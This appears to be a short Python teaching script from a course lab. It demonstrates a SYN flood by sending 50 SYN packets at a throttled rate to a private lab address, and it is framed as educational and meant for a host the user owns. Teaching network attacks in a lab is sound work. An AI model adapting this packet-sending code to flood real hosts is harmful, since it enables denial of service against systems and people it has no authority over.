#!/usr/bin/env python3
"""
Educational SYN flood demonstration with strict rate limits.
"""
from __future__ import annotations
import time
from fastpkt.scapy import IP, TCP, send
from _course import target  # --target HOST: a lab host you own


def syn_demo(target_ip: str, target_port: int, count: int = 50, delay: float = 0.1) -> None:
    """
    Send a low-rate stream of SYN packets for learning.
    """
    for i in range(count):
        packet = IP(dst=target_ip) / TCP(dport=target_port, sport=40000 + i, flags="S")
        send(packet, verbose=False)
        time.sleep(delay)
    print(f"[*] Completed demo ({count} packets)")


if __name__ == "__main__":
    syn_demo(target("192.168.56.10"), 80)
